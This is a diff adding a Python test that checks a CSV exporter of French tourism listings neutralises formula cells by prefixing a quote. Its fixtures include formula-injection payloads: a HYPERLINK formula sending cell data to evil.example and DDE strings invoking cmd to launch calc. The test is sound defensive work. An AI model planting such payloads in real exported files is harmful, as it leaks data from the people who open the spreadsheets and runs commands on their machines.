@@ -292,3 +292,37 @@ def test_values_breaking_the_schema_are_emptied_and_missing_required_ones_report
     assert reason == "champ obligatoire manquant : pivot"
     row["pivot"] = UNKNOWN_PIVOT
     assert enforce_schema(row) is None
+
+
+FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")'
+
+
+def test_formula_cells_are_neutralised_and_the_file_stays_valid(conn, tmp_path):
+    """Issue 19, finding 7: names, addresses and summaries starting with = + - @ are written
+    as text (a leading '), numbers and the phone stay as they are, the file stays valid."""
+    offer_id = _insert(
+        conn,
+        nom=FORMULA_NAME,
+        pivot=None,
+        adresse="+1 rue du Piège",
+        code_postal="87000",
+        commune_nom="Limoges",
+        code_insee=LIMOGES,
+        lon=-1.25,
+        lat=45.83,
+        telephones=["+33 5 55 12 34 56"],
+        presentation_resume="@SUM(1+1)*cmd|' /C calc'!A0 " + "x" * SUMMARY_MAX,
+        presentation_detail="-2+3+cmd|' /C calc'!A0",
+    )
+    path = tmp_path / "formules.csv"
+    with path.open("w", encoding="utf-8", newline="") as out:
+        write_csv(conn, "87", out)
+    report = validate_csv(path)
+    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])
+    row = _read(path)[f"mapdir-{offer_id}"]
+    assert row["nom"] == "'" + FORMULA_NAME
+    assert row["adresse"] == "'+1 rue du Piège"
+    assert row["presentation_resume"].startswith("'@SUM(1+1)")
+    assert len(row["presentation_resume"]) <= SUMMARY_MAX
+    assert row["presentation_detail"] == "'-2+3+cmd|' /C calc'!A0"
+    assert row["longitude"] == "-1.25" and row["telephone"] == "+33555123456"
